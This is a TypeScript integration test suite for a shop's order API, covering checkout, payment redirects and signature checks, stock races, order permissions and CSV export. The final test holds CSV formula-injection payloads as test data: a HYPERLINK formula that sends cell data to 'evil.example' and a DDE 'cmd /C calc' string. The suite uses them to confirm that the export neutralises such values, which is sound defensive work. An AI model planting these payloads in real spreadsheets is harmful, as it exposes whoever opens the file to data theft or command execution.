import { and, count, eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import {
  baskets,
  inventories,
  orderLineItems,
  orders,
  paymentSessions,
  products,
} from '../../commerce-api/db/schema'
import {
  ALL_INCLUDES,
  anonymousToken,
  basketFor,
  checkoutTestBed,
  minor,
  readyGuestBasket,
  userToken,
} from './checkout-fixtures'
import { call, type Api } from './harness'

let api: Api
let skus: string[]
checkoutTestBed(4, (bed) => ({ api, skus } = bed))

const EUR = ';loc=en_US;cur=EUR'

async function ordersOf(basketId: string) {
  const [row] = await api.database.db.select({ n: count() }).from(orders).where(eq(orders.basketId, basketId))
  return Number(row!.n)
}

async function stockOf(sku: string) {
  const [row] = await api.database.db.select().from(inventories).where(eq(inventories.sku, sku))
  return row!.stock
}

async function pay(
  basket: { url: (p?: string) => string; token: string },
  paymentInstrument: string,
  redirect?: object,
) {
  const put = await call(basket.url('/payments/open-tender'), {
    method: 'PUT',
    token: basket.token,
    json: { paymentInstrument, ...(redirect ? { redirect } : {}) },
  })
  expect(put.status).toBe(200)
  return put.json
}

const order = (token: string, basket: string, accepted = true) =>
  call(api.url(`orders?include=${ALL_INCLUDES}`, EUR), {
    method: 'POST',
    token,
    json: { basket, termsAndConditionsAccepted: accepted },
  })

/** Loads the hosted page, posts an outcome and returns the storefront's PATCH body for the signed return. */
async function hostedOutcome(redirectUrl: string, outcome: string, cardNumber = '4111 1111 1111 1111') {
  const posted = await fetch(redirectUrl, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ outcome, cardNumber }).toString(),
    redirect: 'manual',
  })
  expect(posted.status).toBe(303)
  const url = new URL(posted.headers.get('location')!)
  return {
    url,
    redirect: {
      status: url.searchParams.get('redirect')!.toUpperCase(),
      parameters: [...url.searchParams.entries()]
        .filter(([n]) => n !== 'redirect')
        .map(([name, value]) => ({ name, value })),
    },
  }
}

describe('placing an order', () => {
  it('refuses without accepted terms, and with what validation finds', async () => {
    const basket = await readyGuestBasket(api, [{ sku: skus[0]!, quantity: 1 }], { matrix: EUR })
    const terms = await order(basket.token, basket.id, false)
    expect(terms.status).toBe(422)
    expect(terms.json.errors[0].code).toBe('basket.validation.terms_and_conditions.error')
    const noPayment = await order(basket.token, basket.id)
    expect(noPayment.status).toBe(422)
    expect(noPayment.json.errors[0].code).toBe('basket.validation.failed.error')
    expect(noPayment.json.errors[0].causes.map((c: any) => c.code)).toEqual([
      'basket.validation.payment.missing.error',
    ])
    expect((await order(basket.token, '00000000-0000-4000-8000-000000000999')).json.errors[0].code).toBe(
      'basket.not_found.error',
    )
    expect((await order(basket.token, 'nope')).status).toBe(404)
    for (const body of [{}, { basket: 5 }, { basket: basket.id, termsAndConditionsAccepted: 'yes' }]) {
      expect(
        (await call(api.url('orders'), { method: 'POST', token: basket.token, json: body })).status,
      ).toBe(400)
    }
    expect(await ordersOf(basket.id)).toBe(0)
  })

  it('completes an invoice order: snapshot as ordered, stock taken, basket submitted, submit is idempotent', async () => {
    const sku = skus[0]!
    const stock = await stockOf(sku)
    const basket = await readyGuestBasket(api, [{ sku, quantity: 2 }], { matrix: EUR })
    await call(basket.url('/promotioncodes'), {
      method: 'POST',
      token: basket.token,
      json: { code: 'WELCOME10' },
    })
    await pay(basket, 'INVOICE')
    const before = (await basket.get()).data
    const placed = await order(basket.token, basket.id)
    expect(placed.status).toBe(201)
    const data = placed.json.data
    expect(data).toMatchObject({
      basket: basket.id,
      orderCreation: { status: 'COMPLETED' },
      statusCode: 'NEW',
      status: 'New',
      email: 'gina@example.test',
      purchaseCurrency: 'EUR',
      promotionCodes: ['WELCOME10'],
      commonShippingMethod: 'STD_GROUND',
      invoiceToAddress: basket.addressUrn,
    })
    expect(data.documentNumber).toMatch(/^\d{6,}$/)
    // A guest's order has no buyer (a registered user's names them: see 'reading orders').
    expect(data).not.toHaveProperty('buyer')
    expect(new Date(data.creationDate).getTime()).toBeGreaterThan(Date.now() - 60_000)
    expect(data.totals.grandTotal).toEqual(before.totals.grandTotal)
    expect(minor(data.totals.valueRebatesTotal.gross)).toBeGreaterThan(0)
    const line = placed.json.included.lineItems[data.lineItems[0]]
    expect(line).toMatchObject({ product: sku, quantity: { value: 2 }, fulfillmentStatus: 'NEW' })
    expect(line.name.length).toBeGreaterThan(0)
    expect(placed.json.included.invoiceToAddress[basket.addressUrn].city).toBe('München')
    expect(placed.json.included.commonShippingMethod.STD_GROUND.deliveryTimeMin).toBe('P3D')
    const payment = placed.json.included.payments[data.payments[0]]
    expect(payment).toMatchObject({ paymentMethod: 'INVOICE', status: 'Authorized' })

    expect(await stockOf(sku)).toBe(stock - 2)
    const [row] = await api.database.db.select().from(baskets).where(eq(baskets.id, basket.id))
    expect(row!.status).toBe('submitted')
    const current = await call(api.url('baskets/current'), { token: basket.token })
    expect(current.status).toBe(404)
    expect(current.json.errors[0].code).toBe('basket.not_found.error')

    const again = await order(basket.token, basket.id)
    expect(again.status).toBe(200)
    expect(again.json.data.id).toBe(data.id)
    expect(again.json.data.documentNumber).toBe(data.documentNumber)
    expect(await stockOf(sku)).toBe(stock - 2)

    // Later catalog changes leave the order as it was.
    await api.database.db
      .update(products)
      .set({ names: { en_US: 'Renamed later' } })
      .where(eq(products.sku, sku))
    const read = await call(api.url(`orders/${data.id}?include=lineItems`, EUR), { token: basket.token })
    expect(read.status).toBe(200)
    expect(read.json.included.lineItems[data.lineItems[0]].name).toBe(line.name)

    // The order names its rebates as ICM does: ids in `discounts`, the rebates included.
    const withDiscounts = await call(api.url(`orders/${data.id}?include=discounts`, EUR), {
      token: basket.token,
    })
    const [rebateId] = withDiscounts.json.data.discounts.valueBasedDiscounts
    expect(withDiscounts.json.included.discounts[rebateId]).toMatchObject({ code: 'WELCOME10' })
  })

  it('answers an order stored with its rebates inside `discounts` in ICM’s shape all the same', async () => {
    const basket = await readyGuestBasket(api, [{ sku: skus[1]!, quantity: 1 }], { matrix: EUR })
    await pay(basket, 'INVOICE')
    const placed = await order(basket.token, basket.id)
    const [row] = await api.database.db.select().from(orders).where(eq(orders.id, placed.json.data.id))
    const amount = {
      type: 'PriceItem',
      net: { value: 1, currency: 'EUR' },
      gross: { value: 1.19, currency: 'EUR' },
    }
    const { discounts: _ids, ...data } = row!.snapshot.data
    const { discounts: _rebates, ...included } = row!.snapshot.included
    const legacy = {
      itemValueRebates: [],
      valueRebates: [
        { name: 'Welcome', promotionType: 'ORDER_VALUE_REBATE', promotion: 'welcome-10', amount },
      ],
    }
    await api.database.db
      .update(orders)
      .set({ snapshot: { data: { ...data, discounts: legacy }, included } })
      .where(eq(orders.id, row!.id))
    const read = await call(api.url(`orders/${row!.id}?include=discounts`, EUR), { token: basket.token })
    expect(read.status).toBe(200)
    expect(read.json.data.discounts).toEqual({
      valueBasedDiscounts: ['order-welcome-10'],
      itemValueBasedDiscounts: [],
    })
    expect(read.json.included.discounts['order-welcome-10']).toMatchObject({
      id: 'order-welcome-10',
      promotionType: 'ORDER_VALUE_REBATE',
      description: 'Welcome',
      amount,
    })
  })

  // Needs line_items.custom_fields: without the column, lines keep no custom fields (see domain/basket.ts).
  it('keeps the custom fields of the basket’s lines on the order’s lines', async () => {
    const basket = await readyGuestBasket(api, [], { matrix: EUR })
    const pcode = { name: 'pcode', value: 'MY-CODE-9', type: 'String' }
    const added = await call(basket.url('/items'), {
      method: 'POST',
      token: basket.token,
      json: [{ product: skus[3]!, quantity: { value: 1 }, customFields: [pcode] }],
    })
    expect(added.status).toBe(201)
    await pay(basket, 'INVOICE')
    const placed = await order(basket.token, basket.id)
    expect(placed.status).toBe(201)
    const line = placed.json.included.lineItems[placed.json.data.lineItems[0]]
    expect(line.customFields).toEqual([pcode])
  })

  it('makes one order of two simultaneous submits', async () => {
    const basket = await readyGuestBasket(api, [{ sku: skus[1]!, quantity: 1 }], { matrix: EUR })
    await pay(basket, 'INVOICE')
    const [a, b, c] = await Promise.all([
      order(basket.token, basket.id),
      order(basket.token, basket.id),
      order(basket.token, basket.id),
    ])
    expect([a.status, b.status, c.status].sort()).toEqual([200, 200, 201])
    expect(new Set([a.json.data.id, b.json.data.id, c.json.data.id]).size).toBe(1)
    expect(await ordersOf(basket.id)).toBe(1)
  })

  it('refuses a line that the stock cannot serve any more', async () => {
    const sku = skus[2]!
    const basket = await readyGuestBasket(api, [{ sku, quantity: 3 }], { matrix: EUR })
    await pay(basket, 'INVOICE')
    await api.database.db.update(inventories).set({ stock: 2 }).where(eq(inventories.sku, sku))
    const refused = await order(basket.token, basket.id)
    expect(refused.status).toBe(422)
    expect(refused.json.errors[0].causes[0].code).toBe('basket.line_item.quantity.not_in_stock.error')
    expect(await stockOf(sku)).toBe(2)
    await api.database.db.update(inventories).set({ stock: 50 }).where(eq(inventories.sku, sku))
  })

  it('sells the last piece once when two shoppers order it at the same time', async () => {
    const sku = skus[2]!
    const first = await readyGuestBasket(api, [{ sku, quantity: 1 }], { matrix: EUR })
    const second = await readyGuestBasket(api, [{ sku, quantity: 1 }], { matrix: EUR })
    await pay(first, 'INVOICE')
    await pay(second, 'INVOICE')
    await api.database.db.update(inventories).set({ stock: 1 }).where(eq(inventories.sku, sku))
    const results = await Promise.all([order(first.token, first.id), order(second.token, second.id)])
    expect(results.map((r) => r.status).sort()).toEqual([201, 422])
    const refused = results.find((r) => r.status === 422)!
    expect(refused.json.errors[0].causes[0].code).toBe('basket.line_item.product_out_of_stock.error')
    expect(await stockOf(sku)).toBe(0)
    await api.database.db.update(inventories).set({ stock: 50 }).where(eq(inventories.sku, sku))
  })
})

describe('redirect after checkout (credit card)', () => {
  const urls = (orderId = '*orderID*') => ({
    successUrl: `http://shop.test/en/checkout/receipt?redirect=success&orderId=${orderId}`,
    cancelUrl: `http://shop.test/en/checkout/payment?redirect=cancel&orderId=${orderId}`,
    failureUrl: `http://shop.test/en/checkout/payment?redirect=failure&orderId=${orderId}`,
  })

  it('stops for redirect URLs, sends the shopper to the hosted page, and completes on a signed SUCCESS', async () => {
    const sku = skus[3]!
    const stock = await stockOf(sku)
    const basket = await readyGuestBasket(api, [{ sku, quantity: 1 }], { matrix: EUR })
    await pay(basket, 'CREDIT_CARD')
    const placed = await order(basket.token, basket.id)
    expect(placed.status).toBe(201)
    const id = placed.json.data.id
    expect(placed.json.data.orderCreation).toEqual({
      status: 'STOPPED',
      stopAction: { type: 'Workflow', exitReason: 'redirect_urls_required' },
    })
    expect(await stockOf(sku)).toBe(stock)

    const continued = await call(api.url(`orders/${id}`, EUR), {
      method: 'PATCH',
      token: basket.token,
      json: { orderCreation: { status: 'CONTINUE', redirect: urls() } },
    })
    expect(continued.status).toBe(200)
    const stop = continued.json.data.orderCreation
    expect(stop.status).toBe('STOPPED')
    expect(stop.stopAction.type).toBe('Redirect')
    const page = await fetch(stop.stopAction.redirectUrl)
    const html = await page.text()
    expect(html).toContain(`${placed.json.data.totals.grandTotal.gross.value.toFixed(2)} EUR`)
    expect(html).toContain('name="cardNumber"')

    const badCard = await fetch(stop.stopAction.redirectUrl, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'outcome=SUCCESS&cardNumber=4111111111111112',
      redirect: 'manual',
    })
    expect(badCard.status).toBe(422)
    expect(await badCard.text()).toContain('valid card number')

    const back = await hostedOutcome(stop.stopAction.redirectUrl, 'SUCCESS')
    expect(back.url.searchParams.get('orderId')).toBe(id)
    expect(back.url.pathname).toBe('/en/checkout/receipt')

    const forged = await call(api.url(`orders/${id}`, EUR), {
      method: 'PATCH',
      token: basket.token,
      json: {
        orderCreation: {
          status: 'CONTINUE',
          redirect: {
            ...back.redirect,
            parameters: back.redirect.parameters.map((p) =>
              p.name === 'signature' ? { ...p, value: 'f'.repeat(64) } : p,
            ),
          },
        },
      },
    })
    expect(forged.status).toBe(422)
    expect(forged.json.errors[0].code).toBe('payment.redirect.signature.invalid.error')

    const done = await call(api.url(`orders/${id}?include=payments`, EUR), {
      method: 'PATCH',
      token: basket.token,
      json: { orderCreation: { status: 'CONTINUE', redirect: back.redirect } },
    })
    expect(done.status).toBe(200)
    expect(done.json.data.orderCreation).toEqual({ status: 'COMPLETED' })
    expect(done.json.data.statusCode).toBe('NEW')
    expect(await stockOf(sku)).toBe(stock - 1)
    const [row] = await api.database.db.select().from(baskets).where(eq(baskets.id, basket.id))
    expect(row!.status).toBe('submitted')
    // The receipt reloaded: the same return answers the completed order again, without taking stock twice.
    const reload = await call(api.url(`orders/${id}`, EUR), {
      method: 'PATCH',
      token: basket.token,
      json: { orderCreation: { status: 'CONTINUE', redirect: back.redirect } },
    })
    expect(reload.status).toBe(200)
    expect(await stockOf(sku)).toBe(stock - 1)
  })

  it('rolls the order back on CANCEL or FAILURE: the order is gone and the basket can be ordered again', async () => {
    for (const outcome of ['CANCEL', 'FAILURE']) {
      const basket = await readyGuestBasket(api, [{ sku: skus[3]!, quantity: 1 }], { matrix: EUR })
      await pay(basket, 'CREDIT_CARD')
      const placed = await order(basket.token, basket.id)
      const id = placed.json.data.id
      const continued = await call(api.url(`orders/${id}`, EUR), {
        method: 'PATCH',
        token: basket.token,
        json: { orderCreation: { status: 'CONTINUE', redirect: urls(id) } },
      })
      const back = await hostedOutcome(continued.json.data.orderCreation.stopAction.redirectUrl, outcome)
      const rolled = await call(api.url(`orders/${id}`, EUR), {
        method: 'PATCH',
        token: basket.token,
        json: { orderCreation: { status: 'CONTINUE', redirect: back.redirect } },
      })
      expect(rolled.status).toBe(200)
      expect(rolled.json.data.orderCreation.status).toBe('ROLLED_BACK')
      expect(rolled.json.infos[0].code).toBe(
        outcome === 'CANCEL' ? 'order.payment.cancelled.info' : 'order.payment.failed.info',
      )
      expect((await call(api.url(`orders/${id}`), { token: basket.token })).status).toBe(404)
      const current = await call(api.url('baskets/current'), { token: basket.token })
      expect(current.json.data.id).toBe(basket.id)

      await pay(basket, 'INVOICE')
      const second = await order(basket.token, basket.id)
      expect(second.status).toBe(201)
      expect(second.json.data.orderCreation.status).toBe('COMPLETED')
      expect(second.json.data.id).not.toBe(id)
    }
  })

  it('gives up a stopped order whose basket changed, so the new payment is used', async () => {
    const basket = await readyGuestBasket(api, [{ sku: skus[3]!, quantity: 1 }], { matrix: EUR })
    await pay(basket, 'CREDIT_CARD')
    const stopped = await order(basket.token, basket.id)
    expect(stopped.json.data.orderCreation.status).toBe('STOPPED')
    // Submitted again unchanged (a reload, a second tab, the delivery dates pushed once more): the same order.
    const line = (await basket.get()).data.lineItems[0]
    await call(basket.url(`/items/${line}`), {
      method: 'PATCH',
      token: basket.token,
      json: { desiredDelivery: null },
    })
    const again = await order(basket.token, basket.id)
    expect(again.status).toBe(200)
    expect(again.json.data.id).toBe(stopped.json.data.id)
    await pay(basket, 'INVOICE')
    const placed = await order(basket.token, basket.id)
    expect(placed.status).toBe(201)
    expect(placed.json.data.orderCreation.status).toBe('COMPLETED')
    expect((await call(api.url(`orders/${stopped.json.data.id}`), { token: basket.token })).status).toBe(404)
  })
})

describe('redirect before checkout (wallet)', () => {
  const urls = {
    successUrl: 'http://shop.test/en/checkout/review?redirect=success',
    cancelUrl: 'http://shop.test/en/checkout/payment?redirect=cancel',
    failureUrl: 'http://shop.test/en/checkout/payment?redirect=failure',
  }

  it('rolls back without an authorisation, completes with one', async () => {
    const basket = await readyGuestBasket(api, [{ sku: skus[1]!, quantity: 1 }], { matrix: EUR })
    const put = await pay(basket, 'WALLET', urls)
    const rolled = await order(basket.token, basket.id)
    expect(rolled.status).toBe(200)
    expect(rolled.json.data.orderCreation.status).toBe('ROLLED_BACK')
    expect(rolled.json.infos[0].code).toBe('order.payment.not_authorized.info')
    expect(await ordersOf(basket.id)).toBe(0)

    const back = await hostedOutcome(put.data.redirect.redirectUrl, 'SUCCESS')
    const authorised = await call(basket.url('/payments/open-tender'), {
      method: 'PATCH',
      token: basket.token,
      json: { redirect: back.redirect },
    })
    expect(authorised.json.data.status).toBe('Authorized')
    const placed = await order(basket.token, basket.id)
    expect(placed.status).toBe(201)
    expect(placed.json.data.orderCreation.status).toBe('COMPLETED')
    const [session] = await api.database.db
      .select()
      .from(paymentSessions)
      .where(eq(paymentSessions.basketId, basket.id))
    expect(session!.status).toBe('SUCCESS')
  })
})

describe('reading orders', () => {
  it('lists only the caller’s orders, newest first, 30 a page by default, with the total', async () => {
    const token = await userToken(api, 'bbuyer')
    const ids: string[] = []
    for (let i = 0; i < 3; i++) {
      const basket = await basketFor(api, token, [{ sku: skus[0]!, quantity: 1 }], EUR)
      await call(basket.url(), {
        method: 'PATCH',
        token,
        json: {
          invoiceToAddress: 'urn:address:customer:BC-200001:00000000-0000-4000-8000-000000000103',
          commonShipToAddress: 'urn:address:customer:BC-200001:00000000-0000-4000-8000-000000000104',
          commonShippingMethod: 'PICKUP',
        },
      })
      await pay(basket, 'INVOICE')
      const placed = await order(token, basket.id)
      expect(placed.status).toBe(201)
      expect(placed.json.data.email).toBe('bbuyer@brightline.test')
      // The order names its buyer as the basket did (ICM's `buyer`: the user and their customer).
      expect(placed.json.data.buyer).toMatchObject({
        accountID: 'bbuyer',
        customerNo: 'BC-200001',
        firstName: 'Bernhard',
        lastName: 'Boldner',
        companyName: 'Brightline Construction GmbH',
      })
      ids.unshift(placed.json.data.id)
    }
    const all = await call(api.url('orders'), { token })
    expect(all.status).toBe(200)
    expect(all.json.data.map((o: any) => o.id)).toEqual(ids)
    expect(all.json.info).toEqual({ limit: 30, offset: 0, total: 3 })
    const page = await call(api.url('orders?limit=1&offset=1'), { token })
    expect(page.json.data.map((o: any) => o.id)).toEqual([ids[1]])
    expect(page.json.info).toEqual({ limit: 1, offset: 1, total: 3 })
    expect((await call(api.url('orders?filter[statusCode]=NEW'), { token })).json.info.total).toBe(3)
    expect((await call(api.url('orders?filter[statusCode]=PENDING_PAYMENT'), { token })).json.data).toEqual(
      [],
    )
    expect((await call(api.url('orders?limit=0'), { token })).status).toBe(400)
    expect((await call(api.url('orders?offset=x'), { token })).status).toBe(400)

    // Who manages the customer's orders (APP_B2B_MANAGE_ORDERS: the account owner, an order manager) sees every
    // buyer's orders when asking for all buyers; a buyer only ever their own.
    const owner = await userToken(api, 'jlink')
    expect((await call(api.url('orders'), { token: owner })).json.info.total).toBe(0)
    const everyone = await call(api.url('orders?allBuyers=true'), { token: owner })
    expect(everyone.json.data.map((o: any) => o.id)).toEqual(ids)
    const manager = await userToken(api, 'omanager')
    const managed = await call(api.url('orders?allBuyers=true'), { token: manager })
    expect(managed.json.data.map((o: any) => o.id)).toEqual(ids)
    expect((await call(api.url('orders?allBuyers=true'), { token })).json.info.total).toBe(3)
    const approver = await userToken(api, 'aapprover')
    expect((await call(api.url('orders?allBuyers=true'), { token: approver })).json.info.total).toBe(0)
    expect((await call(api.url(`orders/${ids[0]}`), { token: approver })).status).toBe(404)
    expect((await call(api.url(`orders/${ids[0]}`), { token: await anonymousToken(api) })).status).toBe(404)
    expect((await call(api.url('orders/not-an-id'), { token })).json.errors[0].code).toBe(
      'order.not_found.error',
    )
  })

  it('exports orders as CSV, one row per line item, quoted as RFC 4180 says', async () => {
    const sku = skus[2]!
    await api.database.db
      .update(products)
      .set({ names: { en_US: 'Anchor "Heavy", 10 mm' } })
      .where(eq(products.sku, sku))
    const basket = await readyGuestBasket(
      api,
      [
        { sku, quantity: 2 },
        { sku: skus[1]!, quantity: 1 },
      ],
      { matrix: EUR },
    )
    await pay(basket, 'INVOICE')
    const placed = (await order(basket.token, basket.id)).json.data
    const response = await fetch(api.url('orders-csv', EUR), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'authentication-token': basket.token },
      body: JSON.stringify({ ids: [placed.id] }),
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
    expect(response.headers.get('content-disposition')).toContain(`order-${placed.id}.csv`)
    const text = await response.text()
    const lines = text.split('\r\n')
    expect(lines[0]).toBe(
      'Order number,Order date,Status,Position,SKU,Product,Quantity,Unit price (net),Unit price (gross),Total (net),Total (gross),Currency,Cost center',
    )
    expect(lines).toHaveLength(4) // header, two lines, final CRLF
    const [orderLine] = await api.database.db
      .select()
      .from(orderLineItems)
      .where(and(eq(orderLineItems.orderId, placed.id), eq(orderLineItems.sku, sku)))
    expect(lines[1]).toBe(
      [
        placed.documentNumber,
        placed.creationDate.slice(0, 10),
        'New',
        orderLine!.position,
        sku,
        '"Anchor ""Heavy"", 10 mm"',
        2,
        (orderLine!.singleNet / 100).toFixed(2),
        (orderLine!.singleGross / 100).toFixed(2),
        (orderLine!.totalNet / 100).toFixed(2),
        (orderLine!.totalGross / 100).toFixed(2),
        'EUR',
        '',
      ].join(','),
    )
    const plain = await call(api.url('orders-csv'), {
      method: 'POST',
      token: basket.token,
      json: [placed.id],
    })
    expect(plain.status).toBe(200)
    const unknown = await call(api.url('orders-csv'), {
      method: 'POST',
      token: basket.token,
      json: { ids: [placed.id, '00000000-0000-4000-8000-000000000999'] },
    })
    expect(unknown.status).toBe(404)
    expect(unknown.json.errors[0].code).toBe('order.not_found.error')
    const foreign = await call(api.url('orders-csv'), {
      method: 'POST',
      token: await anonymousToken(api),
      json: [placed.id],
    })
    expect(foreign.status).toBe(404)
    expect(
      (await call(api.url('orders-csv'), { method: 'POST', token: basket.token, json: { ids: [] } })).status,
    ).toBe(400)
  })

  it('exports no spreadsheet formula: text starting with = + - @ is quoted after a quote mark (OWASP)', async () => {
    const sku = skus[2]!
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Invoice")'
    await api.database.db
      .update(products)
      .set({ names: { en_US: "-2+3+cmd|' /C calc'!A0" } })
      .where(eq(products.sku, sku))
    const basket = await readyGuestBasket(api, [{ sku, quantity: 1 }], { matrix: EUR })
    await pay(basket, 'INVOICE')
    const placed = (await order(basket.token, basket.id)).json.data
    // A cost center is named by its manager: the order keeps what the basket named.
    await api.database.db.update(orders).set({ costCenter: formula }).where(eq(orders.id, placed.id))
    const response = await fetch(api.url('orders-csv', EUR), {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'authentication-token': basket.token },
      body: JSON.stringify({ ids: [placed.id] }),
    })
    const [, line] = (await response.text()).split('\r\n')
    expect(line).toContain(`,"'-2+3+cmd|' /C calc'!A0",1,`)
    expect(line!.endsWith(`,EUR,"'${formula.replaceAll('"', '""')}"`)).toBe(true)
    // Amounts stay numbers.
    expect(line).toMatch(/,1,\d+\.\d{2},\d+\.\d{2},\d+\.\d{2},\d+\.\d{2},EUR,/)
  })
})
